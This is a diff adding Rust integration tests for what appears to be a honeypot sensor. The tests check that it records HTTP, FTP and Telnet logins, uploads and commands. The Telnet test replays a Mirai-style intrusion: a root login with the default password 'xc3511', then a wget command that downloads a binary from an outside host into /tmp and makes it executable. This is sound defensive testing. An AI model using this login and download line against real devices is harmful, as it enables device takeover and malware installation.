@@ -1,0 +1,141 @@
+//! HTTP, FTP and Telnet against their ordinary clients: curl (HTTP basic auth, form login, FTP
+//! login and upload) and a scripted Telnet session.
+
+mod support;
+
+use drosera_uplink::event::{Detail, Event, Protocol, Secret};
+use std::time::Duration;
+use support::{require_client, run_client, sha256_hex, Harness};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+/// (user, secret, extra attributes) of a login event.
+type Login = (String, Secret, Vec<(String, String)>);
+
+fn logins(evs: &[Event]) -> Vec<Login> {
+    evs.iter()
+        .filter_map(|e| match &e.detail {
+            Detail::Login { username, secret, extra, .. } => Some((username.clone(), secret.clone(), extra.clone())),
+            _ => None,
+        })
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn curl_basic_auth_and_form_login() {
+    if !require_client("curl") {
+        return;
+    }
+    let h = Harness::start(&["http"]).await;
+    let url = format!("http://127.0.0.1:{}", h.port(Protocol::Http));
+    let mut cmd = tokio::process::Command::new("curl");
+    cmd.args([
+        "-s",
+        "-o",
+        "/dev/null",
+        "-w",
+        "%{http_code}",
+        "-u",
+        "admin:hunter2",
+        "-A",
+        "UA/1",
+        &format!("{url}/admin?x=1"),
+    ]);
+    let out = run_client(cmd, Duration::from_secs(20)).await;
+    assert_eq!(String::from_utf8_lossy(&out.stdout), "401");
+    let mut cmd = tokio::process::Command::new("curl");
+    cmd.args(["-s", "-o", "/dev/null", "--data", "username=root&password=p%40ss", &format!("{url}/login.cgi")]);
+    let _ = run_client(cmd, Duration::from_secs(20)).await;
+    let evs = h.wait_for(Duration::from_secs(10), |evs| logins(evs).len() >= 2).await;
+    let l = logins(&evs);
+    assert_eq!((l[0].0.as_str(), &l[0].1), ("admin", &Secret::Password("hunter2".into())));
+    assert!(l[0].2.contains(&("method".into(), "basic".into())));
+    assert_eq!((l[1].0.as_str(), &l[1].1), ("root", &Secret::Password("p@ss".into())));
+    assert!(l[1].2.contains(&("method".into(), "form".into())));
+    let req = evs
+        .iter()
+        .find_map(|e| match &e.detail {
+            Detail::HttpRequest { method, path, query, user_agent, host, .. } if path == "/admin" => {
+                Some((method.clone(), query.clone(), user_agent.clone(), host.clone()))
+            }
+            _ => None,
+        })
+        .unwrap();
+    assert_eq!(req, ("GET".into(), "x=1".into(), "UA/1".into(), format!("127.0.0.1:{}", h.port(Protocol::Http))));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn curl_ftp_login_and_upload_is_kept_as_payload() {
+    if !require_client("curl") {
+        return;
+    }
+    let h = Harness::start(&["ftp"]).await;
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("x.sh");
+    let content: Vec<u8> = (0..50_000u32).map(|i| (i * 7 % 251) as u8).collect();
+    std::fs::write(&file, &content).unwrap();
+    let mut cmd = tokio::process::Command::new("curl");
+    cmd.args(["-s", "-T"]);
+    cmd.arg(&file);
+    cmd.args(["--user", "bob:s3cret", &format!("ftp://127.0.0.1:{}/", h.port(Protocol::Ftp))]);
+    let out = run_client(cmd, Duration::from_secs(30)).await;
+    assert!(out.status.success(), "curl: {}", String::from_utf8_lossy(&out.stderr));
+    let evs =
+        h.wait_for(Duration::from_secs(10), |evs| evs.iter().any(|e| matches!(e.detail, Detail::Payload { .. }))).await;
+    let l = logins(&evs);
+    assert_eq!((l[0].0.as_str(), &l[0].1), ("bob", &Secret::Password("s3cret".into())));
+    let (sha, size, name, truncated) = evs
+        .iter()
+        .find_map(|e| match &e.detail {
+            Detail::Payload { sha256, size, name, truncated, .. } => {
+                Some((hex::encode(sha256), *size, name.clone(), *truncated))
+            }
+            _ => None,
+        })
+        .unwrap();
+    assert_eq!(sha, sha256_hex(&content));
+    assert_eq!(size, content.len() as u64);
+    assert_eq!(name, "x.sh");
+    assert!(!truncated);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn scripted_telnet_session_records_login_commands_and_downloads() {
+    let h = Harness::start(&["telnet"]).await;
+    let mut s = tokio::net::TcpStream::connect(h.addr(Protocol::Telnet)).await.unwrap();
+    async fn until(s: &mut tokio::net::TcpStream, needle: &str) {
+        let mut seen = Vec::new();
+        let mut buf = [0u8; 512];
+        while !String::from_utf8_lossy(&seen).contains(needle) {
+            let n = tokio::time::timeout(Duration::from_secs(5), s.read(&mut buf)).await.unwrap().unwrap();
+            assert!(n > 0, "closed before {needle:?}");
+            seen.extend_from_slice(&buf[..n]);
+        }
+    }
+    until(&mut s, "login:").await;
+    s.write_all(b"root\r\n").await.unwrap();
+    until(&mut s, "Password:").await;
+    s.write_all(b"xc3511\r\n").await.unwrap();
+    until(&mut s, "# ").await;
+    s.write_all(b"cd /tmp; wget http://203.0.113.5/bins/x86 -O /tmp/x; chmod +x /tmp/x\r\n").await.unwrap();
+    until(&mut s, "# ").await;
+    s.write_all(b"exit\r\n").await.unwrap();
+    let evs = h.wait_connections(1, Duration::from_secs(10)).await;
+    let l = logins(&evs);
+    assert_eq!((l[0].0.as_str(), &l[0].1), ("root", &Secret::Password("xc3511".into())));
+    let cmds: Vec<String> = evs
+        .iter()
+        .filter_map(|e| match &e.detail {
+            Detail::Command { line } => Some(line.clone()),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(cmds, vec!["cd /tmp; wget http://203.0.113.5/bins/x86 -O /tmp/x; chmod +x /tmp/x", "exit"]);
+    let dl = evs
+        .iter()
+        .find_map(|e| match &e.detail {
+            Detail::DownloadOffered { url, tool } => Some((url.clone(), tool.clone())),
+            _ => None,
+        })
+        .unwrap();
+    assert_eq!(dl, ("http://203.0.113.5/bins/x86".into(), "wget".into()));
+}
